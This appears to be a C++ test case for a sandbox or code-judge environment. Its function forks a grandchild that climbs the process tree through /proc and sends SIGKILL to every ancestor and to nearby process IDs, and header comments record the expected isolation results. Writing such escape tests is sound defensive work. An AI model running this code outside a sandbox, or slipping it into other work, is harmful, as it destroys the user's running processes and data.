// expect: namespaces=AC landlock=AC limits=open
// danger: kills the user's processes
// then: board honest
// A grandchild goes up from parent to parent, as far as /proc tells who they are, and kills each.
#include <fcntl.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

static pid_t parentOf(pid_t pid) {
  char line[512] = {};
  const int file = open(("/proc/" + std::to_string(pid) + "/stat").c_str(), O_RDONLY);
  const ssize_t size = file < 0 ? 0 : read(file, line, sizeof line);
  const std::string text(line, size > 0 ? size : 0);
  const std::size_t name = text.rfind(") ");
  return name == std::string::npos ? 0 : std::atoi(text.c_str() + name + 4);
}

static bool attack() {
  const pid_t self = getpid(), parent = getppid();
  if (fork() == 0) {
    if (fork() == 0) {
      for (pid_t pid = parent; pid > 0; pid = parentOf(pid)) kill(pid, SIGKILL);
      for (pid_t pid = parent - 1; pid > parent - 50 && pid > 0; --pid)
        if (pid != self) kill(pid, SIGKILL);
      _exit(0);
    }
    wait(nullptr);
    _exit(0);
  }
  wait(nullptr);
  return getppid() != parent;
}
